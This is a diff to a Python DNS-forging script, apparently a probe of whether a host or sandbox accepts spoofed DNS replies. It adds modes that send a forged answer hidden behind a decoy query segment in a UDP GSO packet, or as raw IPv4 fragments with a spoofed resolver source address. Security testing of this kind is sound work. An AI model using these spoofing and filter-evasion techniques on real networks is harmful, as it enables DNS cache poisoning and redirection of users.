@@ -7,6 +7,10 @@
                                                   its own query there, as the resolver would
     python dnsforge.py raw RESOLVER NAME ADDR     ask RESOLVER, and answer first with a raw socket
                                                   that claims RESOLVER:53 as its source
+    python dnsforge.py gso RESOLVER NAME ADDR     as as-resolver, the answer sent as a UDP GSO packet whose
+                                                  first segment is query-shaped
+    python dnsforge.py frag RESOLVER NAME ADDR    ask RESOLVER, answer with raw IPv4 fragments claiming it: the
+                                                  first holding the UDP header alone
     python dnsforge.py tcp-at HOST PORT NAME ADDR send a DNS answer over TCP from port 53 to HOST:PORT
     python dnsforge.py listen                     (the victim's side of tcp-at: print a port, read one
                                                   connection to the end)
@@ -78,6 +82,43 @@ def raw(resolver: str, name: str, addr: str) -> str:
     return await_answer(client)
 
 
+def gso(resolver: str, name: str, addr: str) -> str:
+    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server.bind((resolver, 53))
+    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    client.connect((resolver, 53))
+    client.send(dns.message.make_query(name, "A").to_wire())
+    wire, peer = server.recvfrom(4096)
+    answer = forged(dns.message.from_wire(wire), name, addr)
+    decoy = dns.message.make_query("decoy.test", "A").to_wire()
+    size = max(len(decoy), len(answer))
+    segment = struct.pack("H", size)  # UDP_SEGMENT: the first segment a query, the last the answer
+    try:
+        server.sendmsg([decoy.ljust(size, b"\0") + answer], [(socket.SOL_UDP, 103, segment)], 0, peer)
+    except PermissionError:
+        return "refused"
+    return await_answer(client)
+
+
+def frag(resolver: str, name: str, addr: str) -> str:
+    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    client.connect((resolver, 53))
+    query = dns.message.make_query(name, "A")
+    client.send(query.to_wire())
+    local, port = client.getsockname()
+    payload = forged(query, name, addr)
+    udp = struct.pack("!HHHH", 53, port, 8 + len(payload), 0) + payload
+    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    outcomes = []
+    for offset, part, more in ((0, udp[:8], 0x2000), (1, udp[8:], 0)):  # (offset in 8-byte units)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(part), 0x4242, more | offset, 64, socket.IPPROTO_UDP, 0,
+                         socket.inet_aton(resolver), socket.inet_aton(local))  # fmt: skip
+        outcomes.append(send(sender, ip + part, (local, 0)))
+    if "refused" in outcomes:
+        return "refused" if set(outcomes) == {"refused"} else "partly refused"
+    return await_answer(client)
+
+
 def untrusted(name: str, addr: str) -> str:
     server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     server.bind(("127.0.0.1", 53))
@@ -115,6 +156,7 @@ if __name__ == "__main__":
     mode, args = sys.argv[1], sys.argv[2:]
     if mode == "tcp-at":
         args[1] = int(args[1])
-    print({"untrusted": untrusted, "as-resolver": as_resolver, "raw": raw, "tcp-at": tcp_at, "listen": listen}[mode](
+    print({"untrusted": untrusted, "as-resolver": as_resolver, "raw": raw, "gso": gso, "frag": frag, "tcp-at": tcp_at,
+           "listen": listen}[mode](
         *args
     ))  # fmt: skip
